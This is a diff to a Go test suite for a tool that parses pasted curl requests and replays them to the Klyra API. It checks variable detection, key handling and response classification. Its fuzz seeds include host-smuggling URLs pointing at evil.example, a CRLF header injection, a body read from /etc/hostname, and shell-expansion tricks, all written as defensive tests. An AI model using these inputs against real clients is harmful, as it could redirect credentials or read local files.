@@ -11,6 +11,7 @@ import (
 	"net/url"
 	"runtime"
 	"slices"
+	"strconv"
 	"strings"
 	"sync"
 	"testing"
@@ -155,6 +156,16 @@ func TestWhatIsNotSent(t *testing.T) {
 		"the key in the body":  {`curl API/v1/x -d '{"key":"` + mendedKey + `"}'`, "The key stands in its body"},
 		"a path alone":         {"{ config: { transformRequest: [], headers: {a: 'b'}, method: 'post', url: '/v1/x', data: '{}' } }", "The paste does not show its whole URL."},
 		"a variable":           {"curl API/v1/${ID} -d '{}'", "Its URL still holds a variable: ${ID}."},
+		"$version":             {"curl 'API/$version/x' -d '{}'", "Its URL still holds a variable: $version."},
+		"$X":                   {"curl 'API/v1/$X' -d '{}'", "Its URL still holds a variable: $X."},
+		"${x}":                 {"curl 'API/v1/${x}' -d '{}'", "Its URL still holds a variable: ${x}."},
+		"%NAME%":               {"curl 'API/v1/%NAME%' -d '{}'", "Its URL still holds a variable: %NAME%."},
+		"<id>":                 {"curl 'API/v1/<id>' -d '{}'", "Its URL still holds a variable: <id>."},
+		"{id}":                 {"curl 'API/v1/{id}/x' -d '{}'", "Its URL still holds a variable: {id}."},
+		"$x in the query":      {"curl 'API/v1/x?q=$x' -d '{}'", "Its URL still holds a variable: $x."},
+		"<name> in a header":   {"curl 'API/v1/x' -H 'X-Tenant: <tenant>' -d '{}'", "The header X-Tenant still holds a variable: <tenant>."},
+		"$name in a header":    {"curl 'API/v1/x' -H 'X-Tenant: a-$tenant' -d '{}'", "The header X-Tenant still holds a variable: $tenant."},
+		"%NAME% in a header":   {"curl 'API/v1/x' -H 'X-Tenant: %TENANT%' -d '{}'", "The header X-Tenant still holds a variable: %TENANT%."},
 		"a template":           {"POST /v1/{{id}} HTTP/1.1\nHost: " + "127.0.0.1:" + port + "\n\n{}\n\nHTTP/1.1 400 x\n", "Its URL still holds a variable: {{id}}."},
 		"a template as body":   {`curl API/v1/x -d '{"a":"{{text}}"}'`, "Its body still holds what looks like a variable: {{text}}."},
 		"a template as header": {`curl API/v1/x -H 'X-Tenant: {{tenant}}' -d '{}'`, "The header X-Tenant still holds a variable"},
@@ -178,7 +189,7 @@ func TestWhatIsNotSent(t *testing.T) {
 			`{"request":{"method":"POST","url":"API/v1/x","headers":[{"name":"X-A: b\r\nX-Evil","value":"1"}],"postData":{"text":"{}"}}}`,
 			"A header's name",
 		},
-		"a long header": {`curl API/v1/x -H 'X-A: ` + strings.Repeat("ab ", 1000) + `' -d '{}'`, "The header X-A is longer than 2000 bytes."},
+		"a long header": {`curl API/v1/x -H 'X-A: ` + strings.Repeat("ab ", 1000) + `' -d '{}'`, "The header X-A is 2000 bytes or longer, and may have been cut."},
 	} {
 		o := Prepare(asked(t, api, c.text), "")
 		if got := strings.Join(o.Refusals, " "); o.Sendable() || !strings.Contains(got, c.refusal) {
@@ -187,8 +198,13 @@ func TestWhatIsNotSent(t *testing.T) {
 		if r := Replay(inTime(t), o); r.Status != Skip || !strings.Contains(r.Summary, "not sent") {
 			t.Errorf("%s: %s %s", name, r.Status, r.Summary)
 		}
-		if !strings.HasPrefix(o.Command.Text, "curl ") || !strings.Contains(o.Command.Text, `-H "Authorization: Bearer $KLYRA_API_KEY"`) {
+		// Whose host it is cannot be told of a URL that cannot be read.
+		own := name != "%NAME%" && strings.Contains(o.Command.Text, " "+api.BaseURL()+"/") || strings.Contains(o.Command.Text, " '"+api.BaseURL()+"/")
+		if !strings.HasPrefix(o.Command.Text, "curl -g -i -X ") || strings.Contains(o.Command.Text, "Authorization") != own {
 			t.Errorf("%s: command %q", name, o.Command.Text)
+		}
+		if want := map[bool]string{true: "the key in $KLYRA_API_KEY", false: "without your key"}[own]; !strings.HasSuffix(o.Command.Title, want) {
+			t.Errorf("%s: title %q", name, o.Command.Title)
 		}
 		for _, key := range []string{pastedKey, mendedKey, "pass@"} {
 			if text := everyText(o); strings.Contains(text, key[:5]) && holdsPart(text, key) {
@@ -317,6 +333,14 @@ func TestWhatAReplayMeans(t *testing.T) {
 		"an unknown error":     {400, nil, envelope("teapot_error"), Fail, "replay.error", "", "it is another error now: teapot_error"},
 		"an odd code":          {400, nil, `{"error":{"code":"Teapot!","message":"m","type":"t","request_id":"req_5"}}`, Fail, "replay.error", "", "it is another error now: Teapot! (HTTP 400, request id req_5)"},
 		"an error with 200":    {200, nil, envelope("timeout"), Fail, "replay.error", "timeout", "it is another error now: timeout (HTTP 200"},
+		"a quoted envelope":    {200, nil, `{"flagged":true,"content":` + strconv.Quote(envelope("timeout")) + `,"echo":` + envelope("timeout") + `}`, Pass, "replay.succeeded", "", "sent again by klyra-doctor: HTTP 200"},
+		"a quoted gateway":     {200, nil, `{"flagged":false,"content":"<html><title>502 Bad Gateway</title><center>nginx</center></html>"}`, Pass, "replay.succeeded", "", "sent again by klyra-doctor: HTTP 200"},
+		"no success":           {200, nil, `{"success":false,"error":"bad key"}`, Unknown, "replay.unclear", "", "HTTP 200, but the body speaks of an error"},
+		"errors":               {201, nil, `{"errors":["x"]}`, Unknown, "replay.unclear", "", "HTTP 201, but the body speaks of an error"},
+		"not ok":               {200, nil, `{"ok":false}`, Unknown, "replay.unclear", "", "HTTP 200, but the body speaks of an error"},
+		"an error of no code":  {200, nil, `{"error":{"message":"no"}}`, Unknown, "replay.unclear", "", "HTTP 200, but the body speaks of an error"},
+		"a cut envelope":       {401, nil, `{"error":{"code":"invalid_api_key","message":"m","type":"authentication_error"`, Fail, "replay.error", "invalid_api_key", "still invalid_api_key"},
+		"no errors":            {200, nil, `{"success":true,"error":null,"errors":[]}`, Pass, "replay.succeeded", "", "HTTP 200"},
 		"a bare 404":           {404, nil, `{"detail":"Not Found"}`, Fail, "replay.failed", "", "it failed with HTTP 404, without an error code of the API"},
 		"a redirect":           {307, []string{"Location: https://login.example/x?token=1"}, "", Unknown, "replay.unclear", "", "HTTP 307 redirects to https://login.example, which was not followed"},
 		"an edge":              {502, []string{"Content-Type: text/html"}, "<html><title>502 Bad Gateway</title></html>", Unknown, "replay.unclear", "", "HTTP 502 came back, but not from the API"},
@@ -465,6 +489,53 @@ func TestCancelledReplay(t *testing.T) {
 	}
 }
 
+// commandSaysTheSame reads the command for curl like a paste: it asks for what the request asked for, lets curl
+// expand nothing, and takes the key to the API alone.
+func commandSaysTheSame(t *testing.T, target Target, o Outgoing) {
+	t.Helper()
+	if strings.Contains(strings.Join(o.Notes, " "), "are written out") {
+		return // what is masked or written out is not the same
+	}
+	want := target.Request
+	to := intended(want.Address.Reveal(), o.url)
+	if !strings.Contains(to, "://") {
+		if strings.Contains(o.Command.Text, "Authorization: Bearer") {
+			t.Fatalf("%q takes the key to nobody knows whom", o.Command.Text)
+		}
+		return
+	}
+	got := paste.Diagnose(o.Command.Text).Request
+	if got == nil || !strings.HasPrefix(o.Command.Text, "curl -g -") {
+		t.Fatalf("no command: %q", o.Command.Text)
+	}
+	if want.Method != "" && got.Method != want.Method {
+		t.Fatalf("%q asks for a %q, not for a %q", o.Command.Text, got.Method, want.Method)
+	}
+	if !strings.Contains(o.Command.Text, "--data-binary @BODY") && got.Content.Reveal() != want.Content.Reveal() {
+		t.Fatalf("%q sends %q, not %q", o.Command.Text, got.Content.Reveal(), want.Content.Reveal())
+	}
+	at, err := url.Parse(got.Address.Reveal())
+	if named := !got.Key.Empty(); named != (err == nil && target.API.owns(at)) {
+		t.Fatalf("%q holds the key: %v", o.Command.Text, named)
+	}
+	if got.Address.Reveal() != to {
+		t.Fatalf("%q goes to %q, not to %q", o.Command.Text, got.Address.Reveal(), to)
+	}
+}
+
+// intended is where a command is to go: where the request would, or else where it went, without a password.
+func intended(address string, to *url.URL) string {
+	if to != nil {
+		return to.String()
+	}
+	u, err := url.Parse(address)
+	if err != nil || u.User == nil {
+		return address
+	}
+	u.User = nil
+	return u.String()
+}
+
 // FuzzReplayStaysOnTheAPI: whatever a paste holds, nothing of it chooses another origin, and no text of what is
 // shown is raw or holds the key.
 func FuzzReplayStaysOnTheAPI(f *testing.F) {
@@ -473,6 +544,7 @@ func FuzzReplayStaysOnTheAPI(f *testing.F) {
 		"curl https://api.\u212alyra.live/ -d 1", "curl https://api.klyra.live\\@evil.example/ -d 1", "POST //evil.example/x HTTP/1.1\nHost: api.klyra.live\n\n{}\nHTTP/1.1 400",
 		"POST http://evil.example/ HTTP/1.1\nHost: api.klyra.live\n", "curl https:api.klyra.live -d 1", "curl 'https://api.klyra.live?@evil.example' -d 1",
 		`{"request":{"method":"POST","url":"https://api.klyra.live/","headers":[{"name":"a\r\nb","value":"c\r\nd"}]}}`,
+		"curl https://api.klyra.live/v1/x --data-raw @/etc/hostname", "curl https://evil.example/{1,2}[3-4] --data-raw '{1,2}' -H 'A: b'", "curl https://api.klyra.live/v1/x -d 'it'\\''s \"^\" `\n$HOME'",
 	} {
 		f.Add(text, false)
 		f.Add(text, true)
@@ -498,6 +570,7 @@ func FuzzReplayStaysOnTheAPI(f *testing.F) {
 		if shown := everyText(o); strings.Contains(shown, "\x1b") || !strings.Contains(text, mendedKey[:8]) && holdsPart(shown, mendedKey) {
 			t.Fatalf("%q is shown as %q", text, shown)
 		}
+		commandSaysTheSame(t, target, o)
 		if !o.Sendable() {
 			return
 		}
